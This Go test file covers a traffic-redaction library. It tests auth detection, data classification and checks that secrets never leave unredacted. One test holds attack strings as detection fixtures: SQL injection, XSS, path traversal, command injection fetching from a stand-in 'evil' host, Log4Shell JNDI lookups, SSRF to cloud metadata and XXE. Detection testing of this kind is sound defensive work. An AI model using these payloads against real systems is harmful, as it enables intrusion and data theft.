package redact

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/gnomon-sensor/gnomon/agent/proto"
	"github.com/gnomon-sensor/gnomon/inventory/event"
	"github.com/stretchr/testify/require"
)

const at = event.Time(1_764_000_000_000_000_000)

var testConn = proto.Conn{Client: netip.MustParseAddrPort("10.0.0.7:51324"), Server: netip.MustParseAddrPort("10.0.0.9:8080")}

// ex makes an Exchange from "METHOD target", header lines "Name: value" and a body.
func ex(line string, headers []string, body string, resType, resBody string) *proto.Exchange {
	method, target, _ := strings.Cut(line, " ")
	x := &proto.Exchange{Protocol: event.HTTP11, Method: []byte(method), Target: []byte(target), Host: []byte("shop.example:8080"), Status: 200,
		Start: at, FirstByte: at + 1000, End: at + 2000}
	x.Req.Fields = []proto.Field{{Name: []byte("Host"), Value: []byte("shop.example:8080")}}
	for _, h := range headers {
		n, v, _ := strings.Cut(h, ": ")
		x.Req.Fields = append(x.Req.Fields, proto.Field{Name: []byte(n), Value: []byte(v)})
	}
	x.Req.Body, x.Req.Bytes = []byte(body), int64(len(body))
	if resType != "" {
		x.Res.Fields = append(x.Res.Fields, proto.Field{Name: []byte("Content-Type"), Value: []byte(resType)})
	}
	x.Res.Body, x.Res.Bytes = []byte(resBody), int64(len(resBody))
	return x
}

func newClear() *Redactor {
	return New(Config{Key: [32]byte{7}, Names: NamesClear, BodyBytes: 1 << 40})
}
func newLate() *Redactor { return New(Config{Key: [32]byte{7}, BodyBytes: 1 << 40}) }

func call(r *Redactor, x *proto.Exchange) event.Call {
	var c event.Call
	r.Reset(&c)
	c.Service = "shop:8080"
	r.Call(&c, &testConn, x)
	return c.Clone()
}

// said is all text that a Call would carry off the node.
func said(t testing.TB, c *event.Call) string {
	b, err := json.Marshal(c)
	require.NoError(t, err)
	return string(b)
}

func jwt(header, claims string) string {
	e := base64.RawURLEncoding.EncodeToString
	return e([]byte(header)) + "." + e([]byte(claims)) + "." + e([]byte("signature-bytes-here"))
}

func TestParametersAreNamesKindsAndKeyedHashes(t *testing.T) {
	c := call(newClear(), ex("GET /v1/orders?page=2&sort=asc&q=blue%20lamp&id=9b2f2c50-7d0a-7b4e-8a31-1f0c5d2e4b6a&empty=&filter[state]=open&a@b.example=1",
		[]string{"Cookie: theme=dark; lang=en", "X-Tenant-Id: 42"}, "", "", ""))
	var got []string
	for _, p := range c.Params {
		got = append(got, fmt.Sprintf("%s %s %s %q", p.In, p.Name, p.Kind, p.Word))
		require.Equal(t, p.Kind != event.KindEmpty, len(p.Hash) == 10, p.Name)
	}
	require.Contains(t, got[6], "query {email:")
	got[6] = ""
	require.Equal(t, []string{`query page integer ""`, `query sort word ""`, `query q word ""`, `query id uuid ""`, `query empty empty ""`, `query filter[state] word "open"`, "",
		`cookie theme word ""`, `cookie lang word ""`, `header x-tenant-id integer ""`}, got)
	require.Equal(t, []string{"cookie", "host", "x-tenant-id"}, c.RequestHeaders)
}

func TestAHashIsTheSameForTheSameValueOfTheSameParameterOfOneService(t *testing.T) {
	r := newClear()
	hash := func(service, target string) string {
		var c event.Call
		c.Service = service
		r.Call(&c, &testConn, ex("GET "+target, nil, "", "", ""))
		return c.Params[0].Hash
	}
	a := hash("s1", "/x?id=17")
	require.Equal(t, a, hash("s1", "/other?id=17"))
	require.Equal(t, a, hash("s1", "/x?id=%31%37"))
	require.NotEqual(t, a, hash("s1", "/x?id=18"))
	require.NotEqual(t, a, hash("s2", "/x?id=17"))
	require.NotEqual(t, a, hash("s1", "/x?key=17"))
	other := New(Config{Key: [32]byte{8}, Names: NamesClear})
	var c event.Call
	c.Service = "s1"
	other.Call(&c, &testConn, ex("GET /x?id=17", nil, "", "", ""))
	require.NotEqual(t, a, c.Params[0].Hash, "another installation")
}

func TestHowACallerSaysWhoItIs(t *testing.T) {
	token := jwt(`{"alg":"RS256","typ":"JWT"}`, `{"iss":"https://id.example/realms/main","aud":["orders"],"sub":"auth0|alice","exp":1763999999,"scope":"orders:read openid","email":"alice@example.org"}`)
	basic := base64.StdEncoding.EncodeToString([]byte("alice:wonder land"))
	for _, k := range []struct {
		name    string
		target  string
		headers []string
		body    string
		want    event.AuthKind
		cred    bool
	}{
		{"none", "GET /", nil, "", event.AuthNone, false},
		{"RFC 7617 section 2", "GET /", []string{"Authorization: Basic " + basic}, "", event.AuthBasic, true},
		{"scheme without case, extra spaces", "GET /", []string{"authorization: bAsIc   " + basic}, "", event.AuthBasic, true},
		{"RFC 6750 section 2.1", "GET /", []string{"Authorization: Bearer mF_9.B5f-4.1JqM"}, "", event.AuthBearerOpaque, true},
		{"JWT", "GET /", []string{"Authorization: Bearer " + token}, "", event.AuthBearerJWT, true},
		{"JWT in a query", "GET /?access_token=" + token, nil, "", event.AuthBearerJWT, true},
		{"header key", "GET /", []string{"X-API-Key: 0123456789abcdef"}, "", event.AuthAPIKey, true},
		{"query key", "GET /?api_key=0123456789abcdef", nil, "", event.AuthAPIKey, true},
		{"GitHub's scheme", "GET /", []string{"Authorization: token ghp_0123456789abcdefghij"}, "", event.AuthBearerOpaque, true},
		{"session cookie", "GET /", []string{"Cookie: a=b; JSESSIONID=0123456789ABCDEF"}, "", event.AuthSessionCookie, true},
		{"prefixed session cookie", "GET /", []string{"Cookie: __Host-session=0123456789ABCDEF"}, "", event.AuthSessionCookie, true},
		{"other cookies are none", "GET /", []string{"Cookie: theme=darkdarkdark"}, "", event.AuthNone, false},
		{"AWS signature 4", "GET /", []string{"Authorization: AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=fe5f"}, "", event.AuthSigV4, true},
		{"AWS signed URL", "GET /?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20130524%2Fus-east-1&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0", nil, "", event.AuthSigV4, true},
		{"HTTP signature", "GET /", []string{`Authorization: Signature keyId="rsa-key-1",algorithm="rsa-sha256",signature="Base64"`}, "", event.AuthHMAC, true},
		{"webhook", "POST /hook", []string{"X-Hub-Signature-256: sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"}, "{}", event.AuthHMAC, false},
		{"digest", "GET /", []string{`Authorization: Digest username="Mufasa", realm="x", nonce="y"`}, "", event.AuthCustom, true},
		{"own scheme", "GET /", []string{"Authorization: Zoom 83838383838"}, "", event.AuthCustom, true},
		{"RFC 6749 section 2.3.1", "POST /token", []string{"Content-Type: application/x-www-form-urlencoded"}, "grant_type=client_credentials&client_id=s6BhdRkqt3&client_secret=7Fjfp0ZBr1", event.AuthOAuth2Client, true},
		{"client with Basic", "POST /token", []string{"Content-Type: application/x-www-form-urlencoded", "Authorization: Basic " + basic}, "grant_type=client_credentials", event.AuthOAuth2Client, true},
	} {
		x := ex(k.target, k.headers, k.body, "", "")
		c := call(newClear(), x)
		require.Equal(t, k.want, c.Auth.Kind, k.name)
		require.Equal(t, k.cred, c.Auth.Credential != "", k.name)
	}
	c := call(newClear(), ex("GET /", []string{"Authorization: Bearer " + token}, "", "", ""))
	require.Equal(t, "https://id.example/realms/main", c.Auth.Issuer)
	require.Equal(t, "orders", c.Auth.Audience)
	require.Equal(t, []string{"orders:read", "openid"}, c.Auth.Scopes)
	require.Equal(t, "RS256", c.Auth.Algorithm)
	require.Len(t, c.Auth.Subject, 16)
	require.True(t, *c.Auth.Expired)
	require.NotContains(t, said(t, &c), "alice")

	mtls := testConn
	mtls.TLS = &event.TLSFacts{ClientCert: true}
	var m event.Call
	newClear().Call(&m, &mtls, ex("GET /", nil, "", "", ""))
	require.Equal(t, event.AuthMTLS, m.Auth.Kind)
}

func TestAnUnsignedTokenIsNamedSo(t *testing.T) {
	for alg, want := range map[string]string{"none": "none", "NoNe": "none", "HS256": "HS256", "alice@example.org": "other"} {
		c := call(newClear(), ex("GET /", []string{"Authorization: Bearer " + jwt(`{"alg":"`+alg+`"}`, `{"sub":"1234567890"}`)}, "", "", ""))
		require.Equal(t, want, c.Auth.Algorithm)
	}
}

func TestBodiesAreShapesAndClasses(t *testing.T) {
	c := call(newClear(), ex("POST /people", []string{"Content-Type: application/json"},
		`{"name":"Ann","age":41,"tags":["a","b"],"address":{"street":"1 High St","zip":"90210"},"cards":[{"number":"4111 1111 1111 1111","cvv":"123"},{"number":"5500005555555559"}],"ok":true,"none":null,"rate":1.5}`,
		"application/json", `{"items":[{"contact":"a@example.org","iban":"GB82 WEST 1234 5698 7654 32"},{"contact":"b@example.org"}],"ip":"203.0.113.9","note":"mail c@example.org today"}`))
	var fields []string
	for _, f := range c.RequestBody.Fields {
		fields = append(fields, fmt.Sprintf("%s %s %d/%d", f.At, strings.Join(f.Types.Names(), ","), f.N, f.Objects))
	}
	require.Equal(t, []string{"$ object 1/1", "$.address object 1/1", "$.address.street string 1/0", "$.address.zip string 1/0", "$.age integer 1/0", "$.cards array 1/0", "$.cards[] object 2/2",
		"$.cards[].cvv string 1/0", "$.cards[].number string 2/0", "$.name string 1/0", "$.none null 1/0", "$.ok boolean 1/0", "$.rate number 1/0", "$.tags array 1/0", "$.tags[] string 2/0"}, fields)
	require.Equal(t, []event.DataClass{{Class: "address", At: "$.address.street", Count: 1}, {Class: "address", At: "$.address.zip", Count: 1}, {Class: "payment_card", At: "$.cards[].number", Count: 2},
		{Class: "secret", At: "$.cards[].cvv", Count: 1}}[:3], c.Data.Request[:3])
	require.Equal(t, []event.DataClass{{Class: "email", At: "$.items[].contact", Count: 2}, {Class: "iban", At: "$.items[].iban", Count: 1}, {Class: "ip", At: "$.ip", Count: 1},
		{Class: "email", At: "$.note", Count: 1}}, c.Data.Response)
	require.EqualValues(t, 1, c.ResponseBody.Find("$.items[].iban").N)
	require.EqualValues(t, 2, c.ResponseBody.Find("$.items[]").Objects)
}

func TestFormsAreObjectsOfStrings(t *testing.T) {
	fields := func(b *event.Body) (list []string) {
		for _, f := range b.Fields {
			list = append(list, fmt.Sprintf("%s %d/%d", f.At, f.N, f.Objects))
		}
		return list
	}
	c := call(newClear(), ex("POST /x", []string{"Content-Type: application/x-www-form-urlencoded"}, "user=ann&mail=a%40example.org&tag=1&tag=2&a@b.example=1", "", ""))
	require.Equal(t, []string{"$ 1/1", "$.* 1/0", "$.mail 1/0", "$.tag 1/0", "$.user 1/0"}, fields(c.RequestBody))
	require.Equal(t, []event.DataClass{{Class: "email", At: "$.mail", Count: 1}}, c.Data.Request)
	require.Equal(t, event.Param{In: event.InBody, Name: "mail", Kind: event.KindEmail, Hash: c.Params[1].Hash}, c.Params[1])

	// RFC 7578
	body := "--AaB03x\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nann\r\n--AaB03x\r\ncontent-disposition: form-data; name=\"card\"\r\n\r\n4111111111111111\r\n" +
		"--AaB03x\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"a@example.org.pdf\"\r\nContent-Type: application/pdf\r\n\r\nb@example.org\r\n--AaB03x--\r\n"
	c = call(newClear(), ex("POST /x", []string{"Content-Type: multipart/form-data; boundary=AaB03x"}, body, "", ""))
	require.Equal(t, []string{"$ 1/1", "$.card 1/0", "$.doc 1/0", "$.user 1/0"}, fields(c.RequestBody))
	require.Equal(t, []event.DataClass{{Class: "payment_card", At: "$.card", Count: 1}}, c.Data.Request)
	for i := range body { // cut anywhere
		x := ex("POST /x", []string{"Content-Type: multipart/form-data; boundary=AaB03x"}, body[:i], "", "")
		x.Req.Bytes = int64(len(body))
		if b := call(shared, x).RequestBody; b != nil {
			require.EqualValues(t, 1, b.CutOff)
			require.Zero(t, b.Find("$").Objects)
		}
	}
}

func TestABodyThatIsCutSaysSoAndPromisesNothing(t *testing.T) {
	x := ex("POST /x", []string{"Content-Type: application/json"}, `{"a":1,"b":{"c":2,"d":"unfini`, "", "")
	x.Req.Bytes = 5000
	b := call(newClear(), x).RequestBody
	require.EqualValues(t, 1, b.CutOff)
	require.EqualValues(t, 0, b.Find("$.a").N, "the object did not end")
	require.EqualValues(t, 0, b.Find("$").Objects)
	require.NotNil(t, b.Find("$.b.c"))
}

func TestCompressedBodiesAreReadAsFarAsTheyAreThere(t *testing.T) {
	plain := []byte(`{"mail":"a@example.org","list":[` + strings.Repeat(`{"n":1},`, 3000) + `{"n":2}]}`)
	gz := func(b []byte) []byte {
		var o bytes.Buffer
		w := gzip.NewWriter(&o)
		_, err := w.Write(b)
		require.NoError(t, errors.Join(err, w.Close()))
		return o.Bytes()
	}
	z := func(b []byte) []byte {
		var o bytes.Buffer
		w := zlib.NewWriter(&o)
		_, err := w.Write(b)
		require.NoError(t, errors.Join(err, w.Close()))
		return o.Bytes()
	}
	small := []byte(`{"mail":"a@example.org"}`)
	for _, k := range []struct {
		coding string
		body   []byte
		want   int // classes
		cut    uint64
	}{{"gzip", gz(small), 1, 0}, {"deflate", z(small), 1, 0}, {"deflate", z(small)[2:], 1, 0}, {"gzip", gz(plain), 1, 1}, {"gzip", gz(small)[:30], 0, 0}, {"br", gz(small), 0, 0}, {"gzip", small, 0, 0},
		{"identity", small, 1, 0}, {"gzip", gz(gz(small)), 0, 0}, {"deflate", []byte{0x78}, 0, 0}, {"deflate", []byte{0x78, 0x9c}, 0, 0}, {"deflate", z(small), 1, 0}} {
		x := ex("GET /x", nil, "", "application/json", string(k.body))
		x.Res.Fields = append(x.Res.Fields, proto.Field{Name: []byte("Content-Encoding"), Value: []byte(k.coding)})
		c := call(shared, x)
		require.Len(t, c.Data.Response, k.want, k.coding)
		if k.want > 0 {
			require.Equal(t, k.cut, c.ResponseBody.CutOff, k.coding)
		}
	}
}

var shared = newClear()

func TestClassesOfData(t *testing.T) {
	for _, k := range []struct{ field, value, want string }{
		{"x", `"4111111111111111"`, "payment_card"}, {"x", `4111111111111111`, "payment_card"}, {"x", `"4111111111111112"`, ""}, {"x", `"378282246310005"`, "payment_card"},
		{"x", `"0000000000000000"`, ""}, {"x", `1764000000000`, ""}, {"x", `"7992739871300000"`, ""},
		{"x", `"DE89370400440532013000"`, "iban"}, {"x", `"DE88370400440532013000"`, ""},
		{"x", `"078-05-1120"`, "national_id"}, {"x", `"666-05-1120"`, ""}, {"x", `"900-05-1120"`, ""}, {"x", `"078-00-1120"`, ""},
		{"x", `"+4930123456"`, "phone"}, {"phone", `"030 123456"`, "phone"}, {"x", `"030 123456"`, ""},
		{"x", `"a.b+c@example.co.uk"`, "email"}, {"x", `"@handle"`, ""}, {"email", `"n/a"`, ""},
		{"x", `"192.0.2.1"`, "ip"}, {"version", `"1.2.3"`, ""},
		{"password", `"hunter2"`, "password"}, {"new_password", `"x"`, "password"}, {"password", `""`, ""},
		{"dateOfBirth", `"1990-02-03"`, "date_of_birth"}, {"createdAt", `"1990-02-03"`, ""},
		{"firstName", `"Zoë"`, "person_name"}, {"file_name", `"a.txt"`, ""}, {"street", `"High Street 1"`, "address"}, {"latitude", `52.5201`, "coordinates"},
		{"x", `"AKIAIOSFODNN7EXAMPLE"`, "api_key"}, {"x", `"ghp_0123456789abcdefghijABCDEFGHIJ012345"`, "api_key"}, {"api_key", `"0123456789"`, "api_key"},
		{"access_token", `"2YotnFZFEjr1zCsicMWpAA"`, "secret"}, {"x", `"-----BEGIN RSA PRIVATE KEY-----\nMIIE"`, "private_key"},
		{"x", `"postgres://app:s3cret@db/app"`, "secret"}, {"x", `"https://example.org/a"`, ""},
		{"x", `"` + jwt(`{"alg":"HS256"}`, `{"sub":"1"}`) + `"`, "jwt"},
		{"taxId", `"12/345/67890"`, "national_id"}, {"id", `"12345678901"`, ""},
	} {
		c := call(newClear(), ex("GET /x", nil, "", "application/json", `{"`+k.field+`":`+k.value+`}`))
		got := ""
		for _, d := range c.Data.Response {
			got += d.Class
			require.Equal(t, "$."+k.field, d.At)
		}
		require.Equal(t, k.want, got, "%s: %s", k.field, k.value)
	}
}

func TestHostileContentIsSeenBeforeItIsRedacted(t *testing.T) {
	for want, attacks := range map[string][]string{
		"sqli": {"/a?id=1'%20OR%20'1'='1", "/a?id=2%27+OR+%272%27%3D%272&Submit=Submit", "/a?id=1+union+select+null,version()", "/a?id=1;drop%20table%20users", "/a?q=x'--",
			"/a?id=1%20AND%20SLEEP(5)", "/a?id=1%2527%20or%201=1", "/a?id=1%20or%201%3D1", "/a/1'%20or%20'a'='a"},
		"xss":       {"/a?q=<script>alert(1)</script>", "/a?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "/a?u=javascript:alert(1)", `/a?q="><svg/onload=alert(1)>`},
		"traversal": {"/../../etc/passwd", "/a?f=../../../etc/passwd", "/a?f=..%2f..%2f..%2fetc%2fshadow", "/a?f=..\\..\\windows\\win.ini", "/static/%2e%2e/%2e%2e/%2e%2e/secret"},
		"rce":       {"/a?h=127.0.0.1;cat%20/etc/passwd", "/a?h=|id", "/a?h=%60whoami%60", "/a?x=$(curl%20http://evil)", "/a?x=%26%26+wget+http://evil", "/a?h=1;sleep%205", "/a?h=$(id)", "/a?h=;ls%20-la", "/a?h=%7Cuname%20-a"},
		"template":  {"/a?n={{7*7}}", "/a?n=${7*7}", "/a?n=%23{7*7}", "/a?n={{config.items()}}"},
		"log4shell": {"/a?x=${jndi:ldap://evil/a}", "/a?x=$%7Bjndi:dns://evil%7D", "/${${lower:j}ndi:ldap://x}"},
		"ssrf":      {"/a?u=http://169.254.169.254/latest/meta-data/", "/a?u=gopher://127.0.0.1:6379/_x", "/a?u=file:///etc/hosts"},
		"nosql":     {"/a?user[$ne]=x", "/a?password[$regex]=.*"},
		"crlf":      {"/a?x=y%0d%0aSet-Cookie:%20a=b", "/a?x=%0AContent-Length:%200"},
		"nul":       {"/a?f=shell.php%00.png"},
	} {
		for _, a := range attacks {
			require.Contains(t, call(newClear(), ex("GET "+a, nil, "", "", "")).Signs, want, a)
		}
	}
	for _, h := range []string{"User-Agent: ${jndi:ldap://evil/a}", "X-Api-Version: ${jndi:ldap://evil/a}", "Referer: ${jndi:rmi://x}"} {
		require.Equal(t, []string{"log4shell"}, call(newClear(), ex("GET /", []string{h}, "", "", "")).Signs, h)
	}
	require.Contains(t, call(newClear(), ex("POST /login", []string{"Content-Type: application/json"}, `{"user":{"$ne":null},"password":{"$gt":""}}`, "", "")).Signs, "nosql")
	require.Contains(t, call(newClear(), ex("POST /x", []string{"Content-Type: application/xml"}, `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "", "")).Signs, "xxe")
	require.Contains(t, call(newClear(), ex("POST /x", []string{"Content-Type: application/x-www-form-urlencoded"}, `name=%27+OR+1%3D1--`, "", "")).Signs, "sqli")
}

func TestHonestTrafficHasNoSigns(t *testing.T) {
	for _, target := range []string{"/search?q=O'Brien", "/search?q=rock+'n'+roll", "/a?q=select+a+union+member", "/a?redirect=https://example.org/a?b=c", "/a?filter=name+eq+'x'+and+age+gt+3",
		"/a?json={\"a\":1}", "/a?time=10:30;zone=utc", "/a?fields=items(id,name)", "/a?q=a+or+b", "/a?q=price<5", "/a?price=$12", "/a?x=cat%20and%20dog", "/a?expr={id}", "/a?list=a|b|c",
		"/a?q=C%2B%2B", "/a?tag=#1", "/a?q=order+by+phone", "/a?v=1..2", "/a?s=tom%26jerry", "/a?q=\"exact+phrase\"", "/wiki/R&D", "/a?callback=jQuery123_456"} {
		require.Empty(t, call(newClear(), ex("GET "+target, []string{"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
			"Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"}, "", "", "")).Signs, target)
	}
	for _, text := range []string{"name;id;price\n1;2;3\n", "size; type of thing; ping me | cat and dog & mouse", "the 'blue' or 1 other", "Dear Sir; please sleep well", "<b>union</b> 'select' -- from here",
		"let x = a || b; if (x) { return `${x}` }"} {
		require.Empty(t, call(newClear(), ex("POST /x", []string{"Content-Type: text/plain"}, text, "", "")).Signs, text)
	}
	require.Empty(t, call(newClear(), ex("POST /x", []string{"Content-Type: application/json"}, `{"text":"Tom's cat & dog; it's <b>fine</b> -- really, 1 = 1 or so","price":"$5","sql":"order"}`, "", "")).Signs)
}

// typed are values that may never be told; wordy ones read like a word, so that as a name they are one.
var (
	typedValues = []string{"zq.wolfe@qmail.example", "4111111111111111", "DE89370400440532013000", "078-05-1120", "+49309876543", "9b2f2c50-7d0a-7b4e-8a31-1f0c5d2e4b6a", "2YotnFZFEjr1zCsicMWpZq",
		"AKIAIOSFODNN7EXAMPLE", "xoxb-123456789012-abcdefABCDEF", "card4111111111111111", "203.0.113.77", "1990-02-03", "98765432101", "zq-eyJhbGciOiJIUzI1NiJ9", "3f2a9c1d8e7b6a5f4d3c2b1a"}
	wordyValues = []string{"hunter2Zq!", "AKIAZQFODNN7EXAMPLE", "Zq Wolfe 4111 1111", "Zq.Wolfe"}
)

// namePlaces are the places where a word may leave as text where nothing leaves the machine.
var namePlaces = map[string]bool{"path": true, "path raw": true, "absolute": true, "no path": true, "bad escape": true, "query key": true, "header name": true, "cookie": true, "json key": true, "json broken": true,
	"form": true, "multipart": true, "host": true, "host bare": true, "connect": true, "method": true, "jwt": true, "jwt url": true, "set-cookie": true, "user info": true}

func TestNothingUnredactedLeaves(t *testing.T) {
	esc := func(s string) string {
		return strings.NewReplacer(" ", "%20", "!", "%21", "+", "%2B", "@", "%40").Replace(s)
	}
	places := map[string]func(v string) *proto.Exchange{
		"path": func(v string) *proto.Exchange { return ex("GET /users/"+esc(v)+"/x", nil, "", "", "") },
		"path raw": func(v string) *proto.Exchange {
			return ex("GET /users/"+strings.ReplaceAll(v, " ", ""), nil, "", "", "")
		},
		"absolute": func(v string) *proto.Exchange {
			return ex("GET http://u:"+esc(v)+"@shop.example/"+esc(v), nil, "", "", "")
		},
		"no path":   func(v string) *proto.Exchange { return ex("GET "+esc(v), nil, "", "", "") },
		"fragment":  func(v string) *proto.Exchange { return ex("GET /a#"+esc(v), nil, "", "", "") },
		"matrix":    func(v string) *proto.Exchange { return ex("GET /a;t="+esc(v)+"/b", nil, "", "", "") },
		"query":     func(v string) *proto.Exchange { return ex("GET /a?q="+esc(v), nil, "", "", "") },
		"query key": func(v string) *proto.Exchange { return ex("GET /a?"+esc(v)+"=1&x["+esc(v)+"]=2", nil, "", "", "") },
		"api key": func(v string) *proto.Exchange {
			return ex("GET /a?api_key="+esc(v)+"&password="+esc(v)+"&token="+esc(v), nil, "", "", "")
		},
		"bad escape": func(v string) *proto.Exchange {
			return ex("GET /a%zz/"+esc(v)+"?%"+esc(v)+"%=%"+esc(v), nil, "", "", "")
		},
		"header": func(v string) *proto.Exchange {
			return ex("GET /a", []string{"X-Thing: " + v, "User-Agent: " + v, "Referer: " + v, "X-Request-Id: " + v}, "", "", "")
		},
		"header name": func(v string) *proto.Exchange { return ex("GET /a", []string{v + ": 1"}, "", "", "") },
		"content type": func(v string) *proto.Exchange {
			return ex("POST /a", []string{"Content-Type: " + v, "Content-Encoding: " + v}, v, v, v)
		},
		"charset": func(v string) *proto.Exchange {
			return ex("POST /a", []string{"Content-Type: text/plain; charset=" + v}, v, "text/html; x="+v, v)
		},
		"auth": func(v string) *proto.Exchange {
			return ex("GET /a", []string{"Authorization: " + v, "X-Api-Key: " + v, "X-Signature: " + v}, "", "", "")
		},
		"scheme": func(v string) *proto.Exchange {
			return ex("GET /a", []string{"Authorization: " + strings.ReplaceAll(v, " ", "") + " x"}, "", "", "")
		},
		"bearer": func(v string) *proto.Exchange {
			return ex("GET /a", []string{"Authorization: Bearer " + v}, "", "", "")
		},
		"basic": func(v string) *proto.Exchange {
			return ex("GET /a", []string{"Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(v+":"+v))}, "", "", "")
		},
		"digest": func(v string) *proto.Exchange {
			return ex("GET /a", []string{`Authorization: Digest username="` + v + `", realm="` + v + `"`}, "", "", "")
		},
		"jwt": func(v string) *proto.Exchange {
			q, _ := json.Marshal(v)
			s := string(q)
			return ex("GET /a", []string{"Authorization: Bearer " + jwt(`{"alg":`+s+`,"kid":`+s+`}`, `{"iss":`+s+`,"aud":[`+s+`],"sub":`+s+`,"email":`+s+`,"name":`+s+`,"scope":`+s+`}`)}, "", "", "")
		},
		"jwt url": func(v string) *proto.Exchange {
			return ex("GET /a", []string{"Authorization: Bearer " + jwt(`{"alg":"RS256"}`, `{"iss":"https://id.example/`+esc(v)+`?x=`+esc(v)+`","scopes":["`+v+`"]}`)}, "", "", "")
		},
		"cookie": func(v string) *proto.Exchange {
			return ex("GET /a", []string{"Cookie: session=" + v + "; " + v + "=1; " + v}, "", "", "")
		},
		"json": func(v string) *proto.Exchange {
			q, _ := json.Marshal(v)
			return ex("POST /a", []string{"Content-Type: application/json"}, `{"a":`+string(q)+`,"b":[`+string(q)+`],"password":`+string(q)+`}`, "application/json", `[`+string(q)+`]`)
		},
		"json key": func(v string) *proto.Exchange {
			q, _ := json.Marshal(v)
			return ex("POST /a", []string{"Content-Type: application/json"}, `{`+string(q)+`:{`+string(q)+`:1}}`, "application/json", `{`+string(q)+`:1}`)
		},
		"json broken": func(v string) *proto.Exchange {
			return ex("POST /a", []string{"Content-Type: application/json"}, `{"a":"`+v, "application/json", `{"a":`+v+`,`+v+`:"`+v)
		},
		"form": func(v string) *proto.Exchange {
			return ex("POST /a", []string{"Content-Type: application/x-www-form-urlencoded"}, "user="+esc(v)+"&"+esc(v)+"=1&client_id="+esc(v)+"&client_secret="+esc(v), "", "")
		},
		"multipart": func(v string) *proto.Exchange {
			return ex("POST /a", []string{"Content-Type: multipart/form-data; boundary=" + v}, "--"+v+"\r\nContent-Disposition: form-data; name=\""+v+"\"\r\n\r\n"+v+"\r\n--"+v+"\r\nContent-Disposition: form-data; name=\"f\"; filename=\""+v+"\"\r\n\r\n"+v+"\r\n--"+v+"--\r\n", "", "")
		},
		"text": func(v string) *proto.Exchange {
			return ex("POST /a", []string{"Content-Type: text/plain"}, "hello "+v+" you", "text/html", "<p>"+v+"</p>")
		},
		"host": func(v string) *proto.Exchange {
			x := ex("GET /a", nil, "", "", "")
			x.Host = []byte(v + ".shop.example")
			return x
		},
		"host bare": func(v string) *proto.Exchange {
			x := ex("GET /a", nil, "", "", "")
			x.Host = []byte(v + ":" + v)
			return x
		},
		"user info": func(v string) *proto.Exchange {
			x := ex("GET /a", nil, "", "", "")
			x.Host = []byte("u:" + v + "@shop.example")
			return x
		},
		"method":  func(v string) *proto.Exchange { x := ex("GET /a", nil, "", "", ""); x.Method = []byte(v); return x },
		"connect": func(v string) *proto.Exchange { return ex("CONNECT "+v+":443", nil, "", "", "") },
		"upgrade": func(v string) *proto.Exchange { x := ex("GET /a", nil, "", "", ""); x.Upgrade = []byte(v); return x },
		"trailer": func(v string) *proto.Exchange {
			x := ex("GET /a", nil, "", "", "")
			x.Res.Trailers = []proto.Field{{Name: []byte(v), Value: []byte(v)}}
			return x
		},
		"set-cookie": func(v string) *proto.Exchange {
			x := ex("GET /a", nil, "", "", "")
			x.Res.Fields = []proto.Field{{Name: []byte("Set-Cookie"), Value: []byte(v)}, {Name: []byte("X-" + v), Value: []byte(v)}}
			return x
		},
	}
	for policy, r := range map[string]*Redactor{"clear": newClear(), "late": newLate()} {
		for place, make := range places {
			values := typedValues
			if policy == "late" || !namePlaces[place] {
				values = append(values[:len(values):len(values)], wordyValues...)
			}
			for _, v := range values {
				if v == "203.0.113.77" && (place == "host" || place == "host bare" || place == "connect") {
					continue // an address is what the client connects to, and stands in server.address too
				}
				c := call(r, make(v))
				text := strings.ToLower(said(t, &c))
				for _, form := range []string{v, esc(v), strings.ReplaceAll(v, " ", ""), strings.ReplaceAll(v, "-", ""), base64.StdEncoding.EncodeToString([]byte(v))} {
					if strings.Contains(text, strings.ToLower(form)) {
						t.Errorf("%s: %q in %s: %s", policy, form, place, text)
						break
					}
				}
			}
		}
	}
}

func TestLateNamesLeaveOnlyWhenListedOrRevealed(t *testing.T) {
	x := func() *proto.Exchange {
		return ex("GET /users/zorbl?zorbl=1&page=2", []string{"X-Zorbl: 1"}, `{"zorbl":1,"name":"x"}`, "application/json", `{"zorbl":2}`)
	}
	r := newLate()
	c := call(r, x())
	require.NotContains(t, said(t, &c), "zorbl")
	require.Contains(t, said(t, &c), `"page"`)
	require.Contains(t, said(t, &c), `"users"`)
	r.Reveal(r.paths.Token([]byte("zorbl")))
	c = call(r, x())
	require.Equal(t, "zorbl", c.Path[1].Text)
	require.Equal(t, "zorbl", c.Params[0].Name)
	require.NotNil(t, c.ResponseBody.Find("$.zorbl"))
}

func TestHostsAreValidatedLoweredAndWithoutPort(t *testing.T) {
	for in, want := range map[string]string{"Shop.EXAMPLE:8080": "shop.example", "10.0.0.9:80": "10.0.0.9", "[2001:DB8::1]:443": "2001:db8::1", "a_b.example.": "a_b.example", "": "", "a b": "", "-": "-",
		"x.y:99999999": "", "évil.example": "", "a..b": "", strings.Repeat("a", 64) + ".example": "", "localhost": "localhost", "api-2.prod.eu-west-1.example.com": "api-2.prod.eu-west-1.example.com"} {
		x := ex("GET /", nil, "", "", "")
		x.Host = []byte(in)
		require.Equal(t, want, call(newClear(), x).Host, in)
	}
}

func TestTheFormsOfRequestTargets(t *testing.T) { // RFC 9112 section 3.2
	r := newClear()
	require.Equal(t, "*", call(r, ex("OPTIONS *", nil, "", "", "")).Template)
	require.Equal(t, "shop.example:443", call(r, ex("CONNECT shop.example:443", nil, "", "", "")).Template)
	require.Equal(t, "/", call(r, ex("GET http://shop.example", nil, "", "", "")).Template)
	require.Equal(t, "/", call(r, ex("GET /", nil, "", "", "")).Template)
